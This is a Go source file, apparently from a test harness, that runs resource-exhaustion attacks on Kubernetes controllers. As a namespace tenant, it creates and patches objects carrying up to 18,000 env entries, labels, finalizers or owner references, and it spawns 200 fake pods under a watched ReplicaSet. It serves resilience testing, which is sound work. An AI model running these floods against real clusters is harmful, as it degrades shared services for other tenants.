package main

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"strings"
	"time"
)

// A tenant has `edit` in one namespace and writes the largest objects that the API server stores: each kind of the
// manager with very many entries of one field.

// An object in the tenant's namespace and the request path of its collection.
type tenantKind struct {
	name       string // of the attack: tenant-<name>
	collection string
	head       string // `"apiVersion":…,"kind":…`
	// The spec with `count` entries of the list that the tenant can make longest.
	spec func(count int) string
	// The collection and the name of the child that the tenant changes as well; empty: none.
	children, child string
	// Whether the attack is by pods of the child, which the manager watches, instead of by entries.
	hasPods bool
}

const pods = `"restartPolicy":"Never","containers":[{"name":"c","image":"i"%s}]`

const (
	deployments   = "/apis/apps/v1/namespaces/default/deployments"
	memcacheds    = "/apis/memcached.cache.example.com/v1/namespaces/default/memcacheds"
	songs         = "/apis/zundokokiyoshi.kaitoy.github.com/v1beta1/namespaces/default/"
	songsHead     = `"apiVersion":"zundokokiyoshi.kaitoy.github.com/v1beta1","kind":`
	memcachedHead = `"apiVersion":"memcached.cache.example.com/v1","kind":"Memcached"`
)

var tenantKinds = []tenantKind{
	{"job", "/apis/batch/v1/namespaces/default/jobs", `"apiVersion":"batch/v1","kind":"Job"`,
		func(count int) string {
			return `{"suspend":true,"template":{"spec":{` + fmt.Sprintf(pods, environment(count)) + `}}}`
		}, "", "", false},
	{"memcached", memcacheds, memcachedHead, func(int) string { return `{"size":1}` }, deployments, "tenant", false},
	{"cronjob", cronjobs, `"apiVersion":"batch.tutorial.kubebuilder.io/v1","kind":"CronJob"`,
		func(count int) string {
			return `{"schedule":"*/1 * * * *","suspend":true,"jobTemplate":{"spec":{"template":{"spec":{` +
				fmt.Sprintf(pods, environment(count)) + `}}}}}`
		}, "", "", false},
	{"bluegreen", "/apis/app.demo.kakao.com/v1/namespaces/default/bluegreens",
		`"apiVersion":"app.demo.kakao.com/v1","kind":"BlueGreen"`,
		func(count int) string {
			return `{"routeTo":"Blue","blueSpec":{"containers":[{"name":"c","image":"i"` + environment(count) +
				`}]},"greenSpec":{"containers":[{"name":"c","image":"i"}]}}`
		}, deployments, "tenantblue-deployment", false},
	{"hikawa", songs + "hikawas", songsHead + `"Hikawa"`,
		func(int) string { return `{"intervalMillis":1000,"numZundokos":1}` }, "", "", false},
	{"zundoko", songs + "zundokos", songsHead + `"Zundoko"`, func(int) string { return `{"say":"Zun"}` }, "", "", false},
	{"kiyoshi", songs + "kiyoshis", songsHead + `"Kiyoshi"`, func(int) string { return `{"say":"Kiyoshi!"}` }, "", "", false},
	{"guestbook", "/apis/webapp.my.domain/v1/namespaces/default/guestbooks",
		`"apiVersion":"webapp.my.domain/v1","kind":"Guestbook"`,
		func(int) string { return `{"size":1,"configMapName":"tenant","alias":"Address"}` }, "", "", false},
	{"pods", memcacheds, memcachedHead, func(int) string { return `{"size":1}` }, deployments, "tenant", true},
}

func environment(count int) string {
	return `,"env":[` + repeated(count, func(i int) string { return fmt.Sprintf(`{"name":"E%d","value":"v"}`, i) }) + `]`
}

func repeated(count int, item func(int) string) string {
	var text strings.Builder
	for i := range count {
		if i > 0 {
			text.WriteByte(',')
		}
		text.WriteString(item(i))
	}
	return text.String()
}

// A field of metadata with `count` entries. Owners have texts that occur in each other.
var tenantMetadata = []struct {
	name  string
	count int
	text  func(count int) string
}{
	{"owners", 12_000, func(count int) string {
		text := strings.Repeat("a", 24)
		return `,"ownerReferences":[` + repeated(count, func(i int) string {
			return fmt.Sprintf(`{"apiVersion":"example.com/v1","kind":"Unknown","name":"%s","uid":"%s%d"}`, text, text, i)
		}) + `]`
	}},
	{"labels", 18_000, func(count int) string {
		return `,"labels":{` + repeated(count, func(i int) string { return fmt.Sprintf(`"l%d":"v"`, i) }) + `}`
	}},
	{"finalizers", 18_000, func(count int) string {
		return `,"finalizers":[` + repeated(count, func(i int) string { return fmt.Sprintf(`"example.com/f%d"`, i) }) + `]`
	}},
}

func tenantAttacks() []attack {
	var all []attack
	for _, kind := range tenantKinds {
		title := "8. objects of a tenant with up to 18,000 entries: " + kind.name
		if kind.hasPods {
			title = fmt.Sprintf("8. %d pods of a tenant's Memcached, each changed", tenantPods)
		}
		all = append(all, attack{"tenant-" + kind.name, title, kind.attack})
	}
	return all
}

// What the API server has accepted of a tenant.
type tenantWrites struct {
	objects, largest, changes, childChanges, pods, podChanges int
}

// Each object is created, changed twice, as is its child, and removed. An attack of which nothing was accepted has failed.
func (k tenantKind) attack(ctx context.Context, at target) (string, error) {
	api, err := newAPIServer(at.kubeconfig)
	if err != nil {
		return "", err
	}
	tenant := tenant{k, api, tenantWrites{}}
	for ctx.Err() == nil {
		for _, metadata := range tenantMetadata {
			if !k.hasPods {
				tenant.writeObject(ctx, metadata.text, metadata.count, func(int) string { return k.spec(1) })
			}
		}
		tenant.writeObject(ctx, func(int) string { return "" }, 18_000, k.spec)
	}
	w := tenant.accepted
	summary := fmt.Sprintf("%d objects of up to %d bytes, %d changes of them", w.objects, w.largest, w.changes)
	succeeded := w.objects > 0 && w.changes > 0
	if k.child != "" {
		summary += fmt.Sprintf(", %d of their child", w.childChanges)
		succeeded = succeeded && w.childChanges > 0
	}
	if k.hasPods {
		summary += fmt.Sprintf(", %d pods and %d changes of them", w.pods, w.podChanges)
		succeeded = succeeded && w.pods > 0 && w.podChanges > 0
	}
	if !succeeded {
		return summary, errors.New("a count is zero, so that part of the attack did not happen")
	}
	return summary, nil
}

type tenant struct {
	tenantKind
	api      *apiServer
	accepted tenantWrites
}

const tenantObject = "tenant"

func (t *tenant) writeObject(ctx context.Context, metadata func(int) string, count int, spec func(int) string) {
	defer t.remove()
	uid := t.create(ctx, metadata, count, spec)
	if uid == "" {
		return
	}
	child := ""
	if t.child != "" {
		child = t.waitForControlled(ctx, t.children+"/"+t.child, uid).Metadata.UID
	}
	for change := range 2 {
		pause(ctx, 500*time.Millisecond)
		patch := fmt.Sprintf(`{"metadata":{"annotations":{"changed":"%d"}}}`, change)
		t.count(&t.accepted.changes, t.api.send(ctx, "PATCH", t.collection+"/"+tenantObject, mergePatch, patch))
		if t.child != "" {
			patch = fmt.Sprintf(`{"spec":{"replicas":%d}}`, 2+change)
			t.count(&t.accepted.childChanges, t.api.send(ctx, "PATCH", t.children+"/"+t.child, mergePatch, patch))
		}
	}
	if t.hasPods {
		t.writePods(ctx, child)
	}
	pause(ctx, 500*time.Millisecond)
}

// create returns the UID; empty: none was created. It tries three quarters as many entries if the API server rejects the object.
func (t *tenant) create(ctx context.Context, metadata func(int) string, count int, spec func(int) string) string {
	for count > 100 && ctx.Err() == nil {
		body := `{` + t.head + `,"metadata":{"name":"` + tenantObject + `"` + metadata(count) + `},"spec":` + spec(count) + `}`
		status, created := t.api.exchange(ctx, "POST", t.collection, "application/json", body)
		switch {
		case status < 300:
			t.accepted.objects++
			t.accepted.largest = max(t.accepted.largest, len(body))
			return created.Metadata.UID
		case status == http.StatusConflict: // the former object still exists
			t.remove()
			pause(ctx, 200*time.Millisecond)
		case status == http.StatusTooManyRequests || status > http.StatusInternalServerError: // overloaded
			pause(ctx, 200*time.Millisecond)
		default:
			count = count * 3 / 4
		}
	}
	return ""
}

func (t *tenant) count(accepted *int, status int) {
	if status < 300 {
		*accepted++
	}
}

// cleanup is a context for what happens also after the end of an attack; the attacker is killed 15 s after it.
func cleanup() (context.Context, context.CancelFunc) {
	return context.WithTimeout(context.Background(), 7*time.Second)
}

func (t *tenant) remove() {
	ctx, cancel := cleanup()
	defer cancel()
	t.api.send(ctx, "PATCH", t.collection+"/"+tenantObject, mergePatch, `{"metadata":{"finalizers":null}}`)
	t.api.send(ctx, "DELETE", t.collection+"/"+tenantObject+"?propagationPolicy=Background", "application/json", "")
}

// waitForControlled waits for an object with this controller: on half a core its creation can take seconds, and until
// then a child of the former object may have its name. The path is of an object or a list.
func (t *tenant) waitForControlled(ctx context.Context, path, controller string) apiObject {
	for ctx.Err() == nil {
		_, reply := t.api.exchange(ctx, "GET", path, "application/json", "")
		for _, object := range append(reply.Items, reply) {
			for _, owner := range object.Metadata.OwnerReferences {
				if owner.Controller && owner.UID == controller {
					return object
				}
			}
		}
		pause(ctx, 50*time.Millisecond)
	}
	return apiObject{}
}

const (
	tenantPods = 200
	podsPath   = "/api/v1/namespaces/default/pods"
)

// writePods creates pods that look like those of the Deployment, and changes each once. The manager watches them.
func (t *tenant) writePods(ctx context.Context, deployment string) {
	const selector = "?labelSelector=app%3Dmemcached,memcached_cr%3D" + tenantObject
	set := t.waitForControlled(ctx, "/apis/apps/v1/namespaces/default/replicasets"+selector, deployment).Metadata
	defer func() {
		ctx, cancel := cleanup()
		defer cancel()
		t.api.send(ctx, "DELETE", podsPath+selector+"&gracePeriodSeconds=0", "application/json", "")
	}()
	owner := fmt.Sprintf(`{"apiVersion":"apps/v1","kind":"ReplicaSet","name":"%s","uid":"%s","controller":true}`, set.Name, set.UID)
	for index := 0; index < tenantPods && ctx.Err() == nil; index++ {
		name := fmt.Sprintf("%s-%d", tenantObject, index)
		body := `{"apiVersion":"v1","kind":"Pod","metadata":{"name":"` + name + `","labels":{"app":"memcached","memcached_cr":"` +
			tenantObject + `"},"ownerReferences":[` + owner + `]},"spec":{` + fmt.Sprintf(pods, "") + `}}`
		t.count(&t.accepted.pods, t.api.send(ctx, "POST", podsPath, "application/json", body))
		patch := `{"metadata":{"annotations":{"changed":"1"}}}`
		t.count(&t.accepted.podChanges, t.api.send(ctx, "PATCH", podsPath+"/"+name, mergePatch, patch))
	}
}

const mergePatch = "application/merge-patch+json"

// What the attacks need of an object or a list.
type apiObject struct {
	Metadata struct {
		Name            string `json:"name"`
		UID             string `json:"uid"`
		OwnerReferences []struct {
			UID        string `json:"uid"`
			Controller bool   `json:"controller"`
		} `json:"ownerReferences"`
	} `json:"metadata"`
	Items []apiObject `json:"items"`
}

func (a *apiServer) send(ctx context.Context, method, path, contentType, body string) int {
	status, _ := a.exchange(ctx, method, path, contentType, body)
	return status
}

// exchange returns the status of the reply, or 599 without one, and its object.
func (a *apiServer) exchange(ctx context.Context, method, path, contentType, body string) (int, apiObject) {
	var object apiObject
	request, err := http.NewRequestWithContext(ctx, method, a.url+path, bytes.NewReader([]byte(body)))
	if err != nil {
		return 599, object
	}
	request.Header.Set("Content-Type", contentType)
	reply, err := a.client.Do(request)
	if err != nil {
		return 599, object
	}
	defer reply.Body.Close()
	_ = json.NewDecoder(reply.Body).Decode(&object)
	_, _ = io.Copy(io.Discard, reply.Body)
	return reply.StatusCode, object
}
